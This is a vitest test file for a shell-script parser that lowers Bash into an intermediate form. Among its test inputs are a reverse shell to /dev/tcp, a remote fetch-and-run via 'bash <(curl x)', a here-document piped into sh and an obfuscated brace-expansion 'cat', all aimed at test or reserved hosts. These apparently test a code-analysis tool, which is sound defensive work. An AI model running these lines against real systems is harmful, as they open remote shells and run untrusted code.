// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are shell, where these are expansions.
import { describe, expect, test } from 'vitest';
import { lowerShell } from '../../src/languages/shell/lower-shell.ts';
import { printProgram } from './print-program.ts';

const print = (text: string) => printProgram(lowerShell(text, { path: 'a.sh' }).program);

const constructs: Record<string, readonly (readonly [code: string, program: string])[]> = {
  commands: [
    ['curl -fsSL http://h.test/x', '(call sh:curl "-fsSL" "http://h.test/x")'],
    ['$cmd a; ${x}y b; "$z"', '(call sh: cmd "a")\n(call sh: (concat x "y") "b")\n(call sh: z)'],
    ['\\curl a; c"u"r\'l\' b', '(call sh:curl "a")\n(call sh:curl "b")'],
    ['a; b & c\nd', '(call sh:a)\n(call sh:b background=true)\n(call sh:c)\n(call sh:d)'],
    ['a \\\n  b', '(call sh:a "b")'],
    ['sudo env X=1 nohup a', '(call sh:sudo "env" "X=1" "nohup" "a")'],
    ['time -p a; exec b; coproc c', '(call sh:time "-p" "a")\n(call sh:exec "b")\n(call sh:coproc "c")'],
    ['time { a; }; coproc N { b; }', '(block {(call sh:a)})\n(block {(call sh:b)})'],
    ['alias sudo="x"; trap \'a b\' EXIT', '(call sh:alias "sudo=x")\n(call sh:trap "a b" "EXIT")'],
    ['return 2; break; continue 1; exit 3', '(return)\n(break)\n(continue)\n(call sh:exit "3")'],
    ['a\u00a0b c', '(call sh:a\u00a0b "c")'],
  ],
  pipes: [
    ['a | b 1 | c', '(call sh:c stdin=(call sh:b "1" stdin=(call sh:a)))'],
    ['! a |& b', '(! (call sh:b stdin=(call sh:a)))'],
    [
      'a | while read l; do b; done',
      '(output (stdin (call sh:a)) {(loop:while (test (call sh:read "l")) {(call sh:b)})})',
    ],
    ['(a; b) | { c; d; }', '(output (stdin (output {(call sh:a); (call sh:b)})) {(call sh:c); (call sh:d)})'],
    ['a | b < f', '(sequence (call sh:a) (call sh:b input="f"))'],
    ['a |\n# c\n b &', '(call sh:b stdin=(call sh:a) background=true)'],
    ['X=1 a | Y=2 b', '(sequence (= global Y "2") (call sh:b stdin=(sequence (= global X "1") (call sh:a))))'],
  ],
  'and, or': [
    ['a && b && c || d', '(|| (&& (call sh:a) (call sh:b) (call sh:c)) (call sh:d))'],
    ['a ||\n b', '(|| (call sh:a) (call sh:b))'],
    ['[ -f x ] && { a; b; }', '(&& (test "-f" "x") (output {(call sh:a); (call sh:b)}))'],
    ['x=1 && a', '(&& (= global x "1") (call sh:a))'],
    ['a || return', '(|| (call sh:a) (output {(return)}))'],
  ],
  redirects: [
    ['a >o 2>e <i >>p', '(call sh:a stdout="o" stderr="e" input="i" stdout="p" append=true)'],
    ['a 2>&1 >&2 <&- 3>&-', '(call sh:a)'],
    [
      'a &>o; b >& p; c &>>q',
      '(call sh:a stdout="o" stderr="o")\n(call sh:b stdout="p" stderr="p")\n(call sh:c stdout="q" stderr="q" append=true)',
    ],
    ['a >|o b', '(call sh:a "b" stdout="o")'],
    [
      '0<&196;exec 196<>/dev/tcp/h.test/1; sh <&196 >&196 2>&196; a >&7',
      '(= global &196 "/dev/tcp/h.test/1")\n(call sh:exec input="/dev/tcp/h.test/1" stdout="/dev/tcp/h.test/1")\n(call sh:sh input=&196 stdout=&196 stderr=&196)\n(call sh:a)',
    ],
    [
      'bash -i >& /dev/tcp/192.0.2.1/4 0>&1',
      '(call sh:bash "-i" stdout="/dev/tcp/192.0.2.1/4" stderr="/dev/tcp/192.0.2.1/4")',
    ],
    ['> f', '(call sh:: stdout="f")'],
    ['{ a; } > f', '(call sh:cat stdin=(output {(call sh:a)}) stdout="f")'],
    ['while a; do b; done < f', '(output (stdin (call sh:cat "f")) {(loop:while (test (call sh:a)) {(call sh:b)})})'],
    [
      'while a; do b; done < <(c)',
      '(output (stdin (output {(call sh:c)})) {(loop:while (test (call sh:a)) {(call sh:b)})})',
    ],
    ['a 12 >f', '(call sh:a "12" stdout="f")'],
  ],
  'here-documents': [
    [
      'cat <<E | sh\na $x `b`\nE\nc',
      '(call sh:sh stdin=(call sh:cat stdin=(concat "a " x " " (output {(call sh:b)}) "\\n")))\n(call sh:c)',
    ],
    ["cat <<'E'\n$x\nE", '(call sh:cat stdin="$x\\n")'],
    ['cat <<-E\n\ta\n\tb $x\n\tE\nc', '(call sh:cat stdin=(concat "a\\nb " x "\\n"))\n(call sh:c)'],
    ['a <<A <<B\n1\nA\n2\nB\nc', '(call sh:a stdin="1\\n" stdin="2\\n")\n(call sh:c)'],
    ['a <<E 2>&1 >f | b && c\nx\nE', '(&& (call sh:b stdin=(call sh:a stdin="x\\n" stdout="f")) (call sh:c))'],
    [
      'while a; do b; done <<E\n$x\nE',
      '(output (stdin (concat x "\\n")) {(loop:while (test (call sh:a)) {(call sh:b)})})',
    ],
    ['cat <<E\n\\$x \\\\ "y" \\\nz\nE', '(call sh:cat stdin="$x \\\\ \\"y\\" z\\n")'],
    ['x=$(cat <<E\na\nE\n)', '(= global x (output {(call sh:cat stdin="a\\n")}))'],
    ['cat <<E\r\na\r\nE\r\nb', '(call sh:cat stdin="a\\r\\n")\n(call sh:b)'],
    ['a <<< "x $y"', '(call sh:a stdin=(concat "x " y))'],
    ['cat <<E\nuntil the end', '(call sh:cat stdin="until the end")'],
  ],
  quoting: [
    ['a \'b "$c"\' "d \\$ \\" \\x" e\\ f', String.raw`(call sh:a "b \"$c\"" "d $ \" \\x" "e f")`],
    ["a $'\\x41\\102\\u0043\\n\\'\\e\\xc3\\xa9'", '(call sh:a "ABC\\n\'\\u001bé")'],
    ['a "b"c\'d\'$e"$f g"', '(call sh:a (concat "bcd" e f " g"))'],
    ['a "" \'\'', '(call sh:a "" "")'],
    ['a $"b" $ "$" c$', '(call sh:a "b" "$" "$" "c$")'],
    ['a "b\\\nc" d\\\ne', '(call sh:a "bc" "de")'],
    ['a ~/b *.c {} [x]', '(call sh:a "~/b" "*.c" "{}" "[x]")'],
    ['a #b\nc#d', '(call sh:a)\n(call sh:c#d)'],
    ['ls !(a|b) @(c|d)e', '(call sh:ls "!(a|b)" "@(c|d)e")'],
  ],
  braces: [
    ['{cat,/etc/x}', '(call sh:cat "/etc/x")'],
    [
      'a b{c,"d,e",$f}g {1..3} {a..c} {x} {,y}',
      '(call sh:a "bcg" "bd,eg" (concat "b" f "g") "1" "2" "3" "a" "b" "c" "{x}" "" "y")',
    ],
    ['a {b,{c,d}}{e,f}', '(call sh:a "be" "bf" "ce" "cf" "de" "df")'],
    ['a "{b,c}" \\{b,c} {1..1000}', '(call sh:a "{b,c}" "{b,c}" "{1..1000}")'],
    ['a {08..10}', '(call sh:a "08" "09" "10")'],
  ],
  substitutions: [
    [
      'a $(b $(c)) `d \\`e\\``',
      '(call sh:a (output {(call sh:b (output {(call sh:c)}))}) (output {(call sh:d (output {(call sh:e)}))}))',
    ],
    ['a "$(b "$c")"', '(call sh:a (output {(call sh:b c)}))'],
    ['a $(<f)', '(call sh:a (output {(call sh:cat "f")}))'],
    [
      'bash <(curl x) >(tee y)',
      '(call sh:bash (opaque:process-substitution (output {(call sh:curl "x")})) (opaque:process-substitution (output {(call sh:tee "y")})))',
    ],
    ['a $(case x in b) c;; esac)', '(call sh:a (output {(switch "x" (case ["b"] {(call sh:c)}))}))'],
    [
      'a $( (b) ) $((c); d)',
      '(call sh:a (output {(block {(call sh:b)})}) (output {(block {(call sh:c)}); (call sh:d)}))',
    ],
    ['a $(b # )\n)', '(call sh:a (output {(call sh:b)}))'],
  ],
  expansions: [
    ['a $1 $@ "$@" "$*" $# $? $$ $! $- ${10} ${x}', '(call sh:a 1 ...@ ...@ * # ? $ ! - 10 x)'],
    [
      'a ${x:-b $c} ${x-} ${x:+"d"} ${x:?e f}',
      '(call sh:a (call #default x (concat "b " c)) (call #default x "") (call #alternative x "d") (call #required x "e f"))',
    ],
    [': ${x:=y}', '(call sh:: (= global x (call #default x "y")))'],
    [
      'a ${#x} ${!x} ${!x*} ${!x[@]} ${x@Q} ${#}',
      '(call sh:a (call #length x) (call #indirect x) (call #names "x") (call #keys x) (call #transform x "Q") #)',
    ],
    [
      'a ${x#b*} ${x##b} ${x%b} ${x%%"b"}',
      '(call sh:a (call #trim-prefix x "b*") (call #trim-longest-prefix x "b") (call #trim-suffix x "b") (call #trim-longest-suffix x "b"))',
    ],
    [
      'a ${x/b/c} ${x//\\//_} ${x/#b} ${x/%b/$c}',
      '(call sh:a (call #replace x "b" "c") (call #replace-all x "/" "_") (call #replace-prefix x "b" "") (call #replace-suffix x "b" c))',
    ],
    [
      'a ${x:1:2} ${x: -1} ${x:$b+1}',
      '(call sh:a (call #substring x 1 2) (call #substring x (neg 1)) (call #substring x (+ (pos b) 1)))',
    ],
    [
      'a ${x^} ${x^^} ${x,} ${x,,[A-Z]}',
      '(call sh:a (call #upper-first x) (call #upper x) (call #lower-first x) (call #lower x "[A-Z]"))',
    ],
    [
      'a ${x[1]} ${x[@]} "${x[@]}" ${x[*]} ${x[$i]:-b} ${#x[@]}',
      '(call sh:a (index x "1") ...x ...x x (call #default (index x i) "b") (call #length x))',
    ],
    [`a "\${x:-it's}" \${x:-'b}'}`, '(call sh:a (call #default x "it\'s") (call #default x "b}"))'],
    [
      'a ${{ inputs.x }} ${(f)x}',
      '(call sh:a (opaque:bad-substitution "${{ inputs.x }}") (opaque:bad-substitution "${(f)x}"))',
    ],
    ['a ${x:-${y:-$(b)}}', '(call sh:a (call #default x (call #default y (output {(call sh:b)}))))'],
  ],
  arithmetic: [
    ['a $((1 + $x * (y - 0x10) ** 2)) $[3 % 2]', '(call sh:a (+ 1 (* (pos x) (** (- (pos y) 16) 2))) (% 3 2))'],
    [
      '((i++, j += 2, k = -1))',
      '(sequence (= global i (+ (pos i) 1)) (= global j (+ (pos j) 2)) (= global k (neg 1)))',
    ],
    ['a $((x > 1 && y <= 2 ? 16#ff : 010))', '(call sh:a (?: (&& (> (pos x) 1) (<= (pos y) 2)) 255 8))'],
    [
      'a $((x[1] ^ ~y | "$z" & $(b) << 2))',
      '(call sh:a (| (^ (pos (index x "1")) (~ (pos y))) (& (pos z) (<< (pos (output {(call sh:b)})) 2))))',
    ],
    ['((a)) && ((b); c)', '(&& (pos a) (output {(block {(call sh:b)}); (call sh:c)}))'],
  ],
  assignments: [
    ['x=1 y="a b" z=$(c)', '(= global x "1")\n(= global y "a b")\n(= global z (output {(call sh:c)}))'],
    ['x=1 a', '(= global x "1")\n(call sh:a)'],
    ['x+=b; x[1]=c; x[$i]+=d', '(+= global x "b")\n(= (index x "1") "c")\n(+= (index x i) "d")'],
    ['x["a b"]=c; x[y[1]]=d; x[a b', '(= (index x "a b") "c")\n(= (index x "y[1]") "d")\n(call sh:x[a "b")'],
    [
      'x=(a "$b" $(c)\n d "${e[@]}"); x+=(f); declare -A m=([k]=v [$l]=w)',
      '(= global x (list "a" b (output {(call sh:c)}) "d" ...e))\n(+= global x (list "f"))\n(= global m (object "k": "v" l: "w"))',
    ],
    [
      'export x=1 y; export -f f; declare -x z=2',
      '(= global x "1")\n(call sh:export "x" "y")\n(call sh:export "-f" "f")\n(= global z "2")\n(call sh:declare "-x" "z")',
    ],
    [
      'f() { local x=1 y; x=2; z=3; readonly y=4; declare w=5; }',
      '(define f (function f [] {(= let x "1"); (= let y ""); (= x "2"); (= global z "3"); (= y "4"); (= let w "5")}))',
    ],
    ['a x=1; unset x', '(call sh:a "x=1")\n(call sh:unset "x")'],
    ['x= a; y=', '(= global x "")\n(call sh:a)\n(= global y "")'],
  ],
  conditions: [
    [
      'if a; then b; elif c; d; then e; else f; fi',
      '(if (call sh:a) {(call sh:b)} {(call sh:c); (if (call sh:d) {(call sh:e)} {(call sh:f)})})',
    ],
    ['if [ "$a" = b -a -z c ]; then d; fi', '(if (test a "=" "b" "-a" "-z" "c") {(call sh:d)})'],
    ['[[ $a =~ ^(b|c)$ && ! ( d < e ) ]]', '(test a "=~" "^(b|c)$" "&&" "!" "(" "d" "<" "e" ")")'],
    [
      'case "$x" in a|b) c;; (d*) e;& \'*\') f;; *) g; esac',
      '(switch x (case ["a" "b"] {(call sh:c)}) (case [(test "d*")] {(call sh:e); (call sh:f)}) (case ["*"] {(call sh:f)}) (case [] {(call sh:g)}))',
    ],
    ['if ! x=$(a); then b; fi', '(if (! (= global x (output {(call sh:a)}))) {(call sh:b)})'],
  ],
  loops: [
    ['for x in a "b c" $d; do e; done', '(loop:each (into global x) (of (list "a" "b c" d)) {(call sh:e)})'],
    ['for x\ndo a; done', '(loop:each (into global x) (of (list ...@)) {(call sh:a)})'],
    [
      'for ((i=0; i<3; i++)); do a; done',
      '(loop:for (init (= global i 0)) (test (< (pos i) 3)) (update (= global i (+ (pos i) 1))) {(call sh:a)})',
    ],
    ['for ((;;)) { a; }', '(loop:for {(call sh:a)})'],
    ['while a; b; do c; done', '(loop:while (test (output {(call sh:a); (call sh:b)})) {(call sh:c)})'],
    ['until a; do b; done', '(loop:while (test (! (call sh:a))) {(call sh:b)})'],
    ['select x in a b; do c; done', '(loop:each (into global x) (of (list "a" "b")) {(call sh:c)})'],
  ],
  functions: [
    [
      'f() { a; }; function g { b; }; function h() (c)',
      '(define f (function f [] {(call sh:a)}))\n(define g (function g [] {(call sh:b)}))\n(define h (function h [] {(call sh:c)}))',
    ],
    ['f ()\n{\n a "$1"\n}\nf x', '(define f (function f [] {(call sh:a 1)}))\n(call sh:f "x")'],
    ['f() if a; then b; fi', '(define f (function f [] {(if (call sh:a) {(call sh:b)})}))'],
  ],
  'line ends': [
    ['if a; then\r\n  b\r\nfi\r\n', '(if (call sh:a) {(call sh:b)})'],
    ['a\0b c\0d', '(call sh:ab "cd")'],
  ],
};

for (const [name, cases] of Object.entries(constructs)) {
  describe(name, () => {
    test.each(cases)('%j', (code, program) => {
      expect(print(code)).toBe(program);
      expect(lowerShell(code, { path: 'a.sh' }).failures).toEqual([]);
    });
  });
}

describe('places', () => {
  const nodesOf = (text: string) => {
    const found: string[] = [];
    JSON.stringify(lowerShell(text, { path: 'a.sh' }).program.body, (_, node) => {
      if (node?.kind === 'call') found.push(text.slice(node.at, node.end));
      return node;
    });
    return found;
  };

  test('are those of the text', () => {
    expect(nodesOf('a "$(b c)" >f; \ud83d\ude00; d')).toEqual(['a "$(b c)" >f', 'b c', '\ud83d\ude00', 'd']);
  });

  test('hold inside back quotes, here-documents, stripped tabs and behind NUL characters', () => {
    expect(nodesOf('`a \\`b c\\``')).toEqual(['`a \\`b c\\``', 'a \\`b c\\`', 'b c']);
    expect(nodesOf('a <<-E\n\t\t$(b c)\n\tE\n')).toEqual(['a <<-E', 'b c']);
    expect(nodesOf('a\0; b c')).toEqual(['a', 'b c']);
  });

  test('comments have theirs', () => {
    const text = '#!/bin/sh\na # one\n$(b #two\n)';
    const { comments } = lowerShell(text, { path: 'a.sh' });
    expect(comments.map((comment) => comment.text)).toEqual(['!/bin/sh', ' one', 'two']);
    for (const comment of comments) expect(text.startsWith(comment.text, comment.at)).toBe(true);
  });
});
